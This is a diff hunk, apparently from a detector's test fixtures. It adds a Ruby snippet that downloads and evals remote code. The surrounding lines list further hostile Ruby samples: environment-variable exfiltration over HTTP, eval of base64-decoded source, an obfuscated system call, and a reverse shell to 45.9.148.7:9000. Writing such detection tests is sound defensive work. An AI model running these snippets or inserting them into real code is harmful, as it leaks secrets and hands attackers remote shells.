@@ -51,6 +51,7 @@ FIRES = {
         "environment sent": f"require 'net/http'\nd = ENV.to_h.to_s\nNet::HTTP.post(URI('{U}'), d)\n",
         "download run": f"require 'open-uri'\ncode = URI.open('{R}').read\neval(code)\n",
         "decoded": "require 'base64'\nsrc = Base64.decode64('cHV0cyAx')\ninstance_eval(src)\n",
+        "download handed on": f"require 'open-uri'\na = URI.open('{R}').read\nb = a\neval b\n",
         "name put together": "Kernel.send('sys' + 'tem', 'id')\n",
         "shell on a socket": (
             "require 'socket'\ns = TCPSocket.new('45.9.148.7', 9000)\nspawn('/bin/sh', in: s, out: s, err: s)\n"
